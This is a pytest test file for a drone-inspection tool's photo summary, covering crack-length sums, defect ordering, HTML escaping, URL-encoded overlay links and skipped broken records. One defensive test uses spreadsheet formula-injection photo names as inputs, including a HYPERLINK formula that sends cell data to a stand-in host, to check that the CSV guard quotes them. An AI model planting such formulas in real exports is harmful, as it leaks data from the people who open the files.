"""The summary over a folder of segmented photos: lengths from the crack centre lines, most crack
first, names escaped, a broken record named."""

import csv
import json
import math
from pathlib import Path

import pytest

from models.photo_summary import most_defect_first, polyline_length_px, summarise_record, write_summary
from skyinspect.errors import InputError


def _record(name: str, instances: list[dict[str, object]], w: int = 400, h: int = 300) -> dict[str, object]:
    return {"source": f"/card/{name}", "width_px": w, "height_px": h, "instances": instances}


def _crack(points: list[list[float]], area: float, score: float = 0.8) -> dict[str, object]:
    return {"class": "crack", "score": score, "area_px": area, "polygon_px": points, "skeleton_px": points}


def _rust(area: float) -> dict[str, object]:
    return {"class": "corrosion", "score": 0.9, "area_px": area, "polygon_px": [[0, 0], [9, 0], [9, 9]],
            "skeleton_px": None}


def test_lengths_widths_and_shares_come_from_the_record() -> None:
    assert polyline_length_px([[0, 0], [3, 4], [3, 14]]) == pytest.approx(15.0)
    assert polyline_length_px(None) == 0.0 and polyline_length_px([[1, 1]]) == 0.0
    row = summarise_record(_record("IMG_1.JPG", [_crack([[0, 0], [3, 4], [3, 14]], 45.0),
                                                 _crack([[0, 0], [0, 5]], 15.0), _rust(1200.0)]), Path("o/IMG_1.json"))
    assert (row.photo, row.cracks, row.corrosion_patches) == ("IMG_1.JPG", 2, 1)
    assert row.crack_length_px == pytest.approx(20.0) and row.longest_crack_px == pytest.approx(15.0)
    assert row.crack_mean_width_px == pytest.approx(60.0 / 20.0)
    assert row.corrosion_percent == pytest.approx(1.0) and row.overlay == "IMG_1_overlay.jpg"
    empty = summarise_record(_record("IMG_2.JPG", []), Path("o/IMG_2.json"))
    assert empty.cracks == 0 and math.isnan(empty.crack_mean_width_px) and math.isnan(empty.top_score)


def test_most_crack_first_then_most_rust(tmp_path: Path) -> None:
    records = {"a": [_rust(50.0)], "b": [_crack([[0, 0], [0, 100]], 300.0)], "c": [],
               "d": [_crack([[0, 0], [0, 10]], 30.0), _rust(10.0)], "e": [_rust(900.0)]}
    for stem, inst in records.items():
        (tmp_path / f"{stem}.json").write_text(json.dumps(_record(f"{stem}.jpg", inst)))
    csv_path, html_path = write_summary(tmp_path, list(records))
    with open(csv_path, newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["photo"] for r in rows] == ["b.jpg", "d.jpg", "e.jpg", "a.jpg", "c.jpg"]
    assert rows[-1]["crack_mean_width_px"] == "" and rows[0]["crack_length_px"] == "100.0"
    page = html_path.read_text()
    assert "5 photos, 4 with defects" in page and page.index("b_overlay.jpg") < page.index("a_overlay.jpg")
    assert not list(tmp_path.glob("*.part"))
    assert [r.photo for r in most_defect_first([])] == []


def test_names_are_escaped_and_a_broken_record_is_named(tmp_path: Path) -> None:
    (tmp_path / "x.json").write_text(json.dumps(_record("<x>&.jpg", [])))
    _, html_path = write_summary(tmp_path, ["x"])
    assert "&lt;x&gt;&amp;.jpg" in html_path.read_text() and "<x>" not in html_path.read_text()
    (tmp_path / "y.json").write_text(json.dumps({"source": "y.jpg"}))
    with pytest.raises(InputError, match=r"y\.json.*not a record written by `skyinspect segment`.*--rerun"):
        write_summary(tmp_path, ["y"])
    (tmp_path / "z.json").write_text("{cut")
    with pytest.raises(InputError, match=r"z\.json.*cannot read"):
        write_summary(tmp_path, ["z"])


def test_overlay_links_hold_names_with_url_characters(tmp_path: Path) -> None:
    """Found running `skyinspect segment` on 'pier #3.jpg' and '50% rust?.jpg': summary.html linked
    'pier #3_overlay.jpg', which a browser reads as the file 'pier ' and a fragment, so no overlay showed."""
    from urllib.parse import unquote

    names = ["pier #3", "50% rust?"]
    for stem in names:
        (tmp_path / f"{stem}.json").write_text(json.dumps(_record(f"{stem}.jpg", [])))
        (tmp_path / f"{stem}_overlay.jpg").write_bytes(b"jpeg")
    page = write_summary(tmp_path, names)[1].read_text()
    srcs = [part.split('"')[0] for part in page.split('src="')[1:]]
    assert sorted(srcs) == ["50%25%20rust%3F_overlay.jpg", "pier%20%233_overlay.jpg"]
    assert all((tmp_path / unquote(s)).is_file() for s in srcs)


def test_photo_names_cannot_become_spreadsheet_formulas(tmp_path: Path) -> None:
    """A photo named '=HYPERLINK(...).jpg' or '+cmd.jpg' put its name first in a summary.csv cell,
    which Excel or LibreOffice run as a formula when a planner opens the file; the work-order CSV's
    guard (csv_safe) quotes it, and the numbers stay numbers."""
    names = ['=HYPERLINK("x.example?"&A1,"open")', "+cmd", "-2", "@SUM(A1)"]
    for i, name in enumerate(names):
        (tmp_path / f"p{i}.json").write_text(json.dumps(_record(f"{name}.jpg", [_rust(10.0 * (i + 1))])))
    csv_path, _ = write_summary(tmp_path, [f"p{i}" for i in range(len(names))])
    with open(csv_path, newline="") as f:
        rows = list(csv.DictReader(f))
    assert sorted(r["photo"] for r in rows) == sorted(f"'{n}.jpg" for n in names)
    assert all(r["overlay"][:1] not in "=+-@" for r in rows)
    assert [r["corrosion_area_px"] for r in rows] == ["40", "30", "20", "10"]


def test_the_summary_covers_every_photo_the_out_folder_holds(tmp_path: Path) -> None:
    """Found segmenting two UAV75 photos into a folder and then one more photo into it: summary.csv and
    summary.html listed the one photo of the last run, and the page said '1 photos', while the folder
    held (and kept, guarded against overwriting) the first two's results. A JSON that is not a photo's
    record (no mask and overlay beside it) is not taken for one."""
    import cv2
    import numpy as np
    from typer.testing import CliRunner

    from skyinspect.cli.main import app

    out = tmp_path / "out"
    for name in ("a.jpg", "b.jpg", "c.jpg"):
        cv2.imwrite(str(tmp_path / name), np.full((40, 60, 3), 128, np.uint8))
    out.mkdir()
    (out / "notes.json").write_text('{"inspector": "J. Doe"}')
    quick = ["--out", str(out), "--flips", "1", "--upscale", "0"]
    for run in (["a.jpg", "b.jpg"], ["c.jpg"]):
        result = CliRunner().invoke(app, ["segment", *(str(tmp_path / n) for n in run), *quick])
        assert result.exit_code == 0, result.output
    with open(out / "summary.csv", newline="") as f:
        assert sorted(r["photo"] for r in csv.DictReader(f)) == ["a.jpg", "b.jpg", "c.jpg"]
    assert "3 photos, 0 with defects" in (out / "summary.html").read_text()


def test_an_earlier_record_that_cannot_be_read_is_left_out_of_the_summary_not_the_run(tmp_path: Path) -> None:
    """The summary covers the folder's earlier runs (test above); one of their records cut or edited by hand
    (x.json beside its mask and overlay) ended the run with exit 2 after every photo was segmented, with
    '--rerun' as the fix, which does not reach a photo not in the run. Now left out of the summary, and said."""
    import cv2
    import numpy as np
    from typer.testing import CliRunner

    from skyinspect.cli.main import app

    out = tmp_path / "out"
    out.mkdir()
    for name, data in (("x.json", b"{cut"), ("y.json", b"\xff\xfe not text"), ("x_mask.png", b"png"),
                       ("x_overlay.jpg", b"jpg"), ("y_mask.png", b"png"), ("y_overlay.jpg", b"jpg")):
        (out / name).write_bytes(data)
    cv2.imwrite(str(tmp_path / "a.jpg"), np.full((40, 60, 3), 128, np.uint8))
    result = CliRunner().invoke(app, ["segment", str(tmp_path / "a.jpg"), "--out", str(out), "--flips", "1",
                                      "--upscale", "0"])
    assert result.exit_code == 0, result.output
    said = " ".join(result.output.split())
    assert "left out of the summary: x.json, y.json (not records segment can read)" in said
    with open(out / "summary.csv", newline="") as f:
        assert [r["photo"] for r in csv.DictReader(f)] == ["a.jpg"]


def test_segment_reads_each_earlier_record_once_for_the_summary(tmp_path: Path,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    """The summary is the --out folder's: `skyinspect segment` summarised each earlier run's record once to
    see it can be read and again to write the summary (every JSON of a card's thousand photos parsed twice)."""
    import cv2
    import numpy as np
    from typer.testing import CliRunner

    import models.photo_summary as photo_summary
    from skyinspect.cli.main import app

    photos, out = tmp_path / "photos", tmp_path / "out"
    photos.mkdir()
    out.mkdir()
    cv2.imwrite(str(photos / "new.jpg"), np.full((64, 96, 3), 150, np.uint8))
    for stem in ("old1", "old2"):
        (out / f"{stem}.json").write_text(json.dumps(_record(f"{stem}.jpg", [_rust(50.0)])))
        (out / f"{stem}_mask.png").write_bytes(b"")
        (out / f"{stem}_overlay.jpg").write_bytes(b"")
    (out / "cut.json").write_text("{cut")  # an earlier record that cannot be read: named, left out
    (out / "cut_mask.png").write_bytes(b"")
    (out / "cut_overlay.jpg").write_bytes(b"")
    read: list[str] = []
    real = photo_summary.summarise_record

    def counting(record: dict[str, object], json_path: Path) -> photo_summary.PhotoSummary:
        read.append(json_path.name)
        return real(record, json_path)

    monkeypatch.setattr(photo_summary, "summarise_record", counting)
    result = CliRunner().invoke(app, ["segment", str(photos), "--out", str(out), "--flips", "1", "--upscale", "0"])
    assert result.exit_code == 0, result.output
    assert "left out of the summary: cut.json" in " ".join(result.output.split())
    assert sorted(read) == ["new.json", "old1.json", "old2.json"]
    with open(out / "summary.csv", newline="") as f:
        assert sorted(r["photo"] for r in csv.DictReader(f)) == ["new.jpg", "old1.jpg", "old2.jpg"]
